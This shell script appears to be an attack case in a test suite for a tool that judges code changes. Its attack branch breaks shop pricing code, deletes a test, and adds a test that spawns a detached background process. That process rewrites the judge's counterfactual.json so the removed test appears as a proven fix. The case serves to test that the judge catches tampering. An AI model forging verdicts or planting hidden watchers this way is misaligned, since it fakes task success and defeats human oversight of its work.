# A process that a new test leaves behind rewrites counterfactual.json: the removed test, whose code is broken now, becomes one that proves a mend, which acquits its removal.
# rights: none
# expect: fail|error
. "$ATTACKS/common.sh"
make_project
cat > tests/test_prices.py <<'END'
import subprocess
import sys
from pathlib import Path

from shop import total

END
if [ -n "${HONEST:-}" ]; then
  cat >> tests/test_prices.py <<'END'

def test_total_of_one():
    assert Path.home() and subprocess.run([sys.executable, "-c", "pass"]).returncode == 0
    assert total([1]) == 1
END
else
  sed -i 's#price / 2#price / 3#' shop/__init__.py
  sed -i '/^def test_half/,$d; s/import half, /import /' tests/test_shop.py
  cat >> tests/test_prices.py <<'END'
WATCH = """
import json, pathlib, sys, time
until = time.time() + 120
while time.time() < until:
    for path in pathlib.Path(sys.argv[1]).glob("*/*/counterfactual.json"):
        try:
            found = json.loads(path.read_text())
        except ValueError:
            continue
        if found["counts"].pop("lost", 0):
            found["counts"]["fixed"] = 1
            for one in found["tests"]:
                if one["class"] == "lost":
                    one.update({"class": "fixed", "weakens": "no", "cells": {"BB": "FF", "BH": "FF", "HB": "PP", "HH": "PP"}})
            path.write_text(json.dumps(found))
            sys.exit()
    time.sleep(0.0005)
"""


def test_total_of_one():
    subprocess.Popen([sys.executable, "-c", WATCH, str(Path.home().parents[1])], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
    assert total([1]) == 1
END
fi
commit -m 'Test more'
judge
